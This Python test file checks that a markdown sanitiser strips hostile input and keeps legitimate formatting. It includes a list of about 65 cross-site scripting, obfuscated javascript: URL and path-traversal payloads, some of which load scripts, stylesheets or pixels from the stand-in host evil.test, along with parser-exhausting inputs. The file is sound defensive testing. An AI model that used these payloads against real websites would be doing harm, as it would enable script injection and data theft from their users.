"""Markdown that is safe to publish, whoever wrote it."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from incidents.markdown import plain, render, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif'>",
    "![pixel](https://evil.test/pixel.gif)",
    "![pixel](//evil.test/pixel.gif)",
    "![pixel](/media/../../etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav\nascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.test)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import '//evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href='//evil.test/'>",
    "<form action='//evil.test'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<p id=getElementById name=cookie class=banner>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<table align=right><tr><td align='right;x' style='text-align: right'>x</td><th align=justify>y</th></tr></table>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p onmouseover=alert(1)>x</p>",
    "<a href='ftp://evil.test'>x</a>",
    "<a href='magnet:?xt=x'>x</a>",
    "<a href='https://ok.test' target=_blank ping='//evil.test'>x</a>",
]

ALLOWED_TAGS = {
    *(["p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img"]),
    *(["h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"]),
}


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives(payload):
    html = render(f"Before.\n\n{payload}\n\nAfter.")

    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s+[^<>]*)?)/?>", html, re.IGNORECASE):
        assert tag in ALLOWED_TAGS
        assert set(re.findall(r"([\w-]+)=", re.sub(r'"[^"]*"', "", attributes))) <= {
            "href",
            "title",
            "rel",
            "src",
            "alt",
            "start",
        }
    for address in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert re.match(r"https?://|mailto:|/(?!/)|[^:/]*$", address), address
    assert not re.search(r'<img[^>]* src="(?!/media/)', html)
    assert "Before." in html


@given(st.text(max_size=400))
def test_sanitising_twice_changes_nothing(text):
    once = sanitise(text)

    assert sanitise(once) == once


def test_what_is_meant_survives():
    html = render(
        "# Title\n\nLine one\r\nline two with **bold** and `code`.\n\n"
        "- [link](https://example.test/a)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![logo](/media/logos/a.png)"
    )

    assert "<h3>Title</h3>" in html
    assert "Line one<br>" in html
    assert "<strong>bold</strong>" in html
    assert 'href="https://example.test/a" rel="noopener noreferrer nofollow ugc"' in html
    assert "<td>1</td>" in html
    assert '<img alt="logo" src="/media/logos/a.png">' in html or 'src="/media/logos/a.png"' in html


def test_columns_stand_as_their_table_says():
    html = render("| a | b | c | d |\n|---|---:|:-:|:--|\n| 1 | 2 | 3 | 4 |")

    for cell in ("<td>1</td>", '<td align="right">2</td>', '<td align="center">3</td>', '<td align="left">4</td>'):
        assert cell in html
    assert '<th align="right">b</th>' in html
    assert "style" not in html


def test_an_image_that_names_its_size_says_it_whatever_its_words_are():
    shown = render('![a > "b" /media/x-9x9.png](/media/postmortems/ab-c3-640x48.png "t > u")')

    assert shown.count("<img ") == shown.count(' width="640" height="48">') == 1
    assert 'alt="a &gt; &quot;b&quot; /media/x-9x9.png"' in shown
    for path in ("/media/postmortems/ab.png", "/media/postmortems/ab-640x48.gif", "https://x.test/ab-640x48.png"):
        assert "width=" not in render(f"![a]({path})")
    assert "width=" not in render('`src="/media/a-1x1.png"` text src="/media/a-1x1.png"> <i src="/media/a-1x1.png">')


@pytest.mark.parametrize(
    ("text", "levels"),
    [("# A\n\n## B", "34"), ("## A\n\n## B", "33"), ("### A\n\n# B", "43"), ("# A\n\n#### B", "34")],
)
def test_headings_begin_at_the_third_level_and_leave_none_out(text, levels):
    assert "".join(re.findall(r"<h(\d)>", render(text))) == levels


def test_plain_has_words_only():
    assert plain("**Fish** & <b>chips</b>\n\nnow") == "Fish & chips now"


ENDLESS = [
    "[",
    "![",
    "[a](",
    "[a](b",
    "[a][",
    "[[",
    "[`",
    "<a ",
    "<a href=",
    "<p\n",
    "<http://",
    "<![CDATA[",
    "<!--",
    "<x y=",
]
ENDLESS += [
    "*_",
    "*a",
    "a\n",
    "> ",
    ">",
    "- ",
    "  - ",
    "1. ",
    "\\",
    "    ",
    " ",
    "\t",
    "~~~",
    "```\n",
    "|a",
    "&",
    "`a",
    "*a\n",
]
SLOW = [
    *((part * 100_000)[:100_000] for part in ENDLESS),
    "[" * 50_000 + "]" * 50_000,
    "[a](" + "(" * 50_000 + ")" * 50_000,
]
SLOW += ["```\n" + "a\n" * 50_000, "\n".join("    " * depth + "- a" for depth in range(220))]


@pytest.mark.parametrize("text", SLOW, ids=lambda text: repr(text[:8]))
def test_no_text_of_the_greatest_length_takes_seconds(text):
    """A guard against never ending (minutes before), not a measure of speed: each takes some 0.3 s."""
    started = time.process_time()
    render(text)

    assert time.process_time() - started < 10


def test_a_long_paragraph_loses_no_word():
    words = [f"word{number}" for number in range(2_000)]

    assert plain(" ".join(words)).replace(" ", "") == "".join(words)


def test_a_long_table_a_long_list_and_a_long_log_stay_whole():
    table = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 1_000
    items = "- one item of many\n" * 1_000
    log = "```\n" + "GET / 500\n\n" * 1_000 + "```\n"

    html = render(f"{table}\n\ntext\n\n{items}\n\ntext\n\n{log}")

    assert (html.count("<table>"), html.count("<ul>"), html.count("<pre>")) == (1, 1, 1)
    assert (html.count("<td>1</td>"), html.count("<li>"), html.count("GET /")) == (1_000, 1_000, 1_000)


def test_endless_text_is_cut():
    assert len(render("x" * 1_000_000)) < 101_000
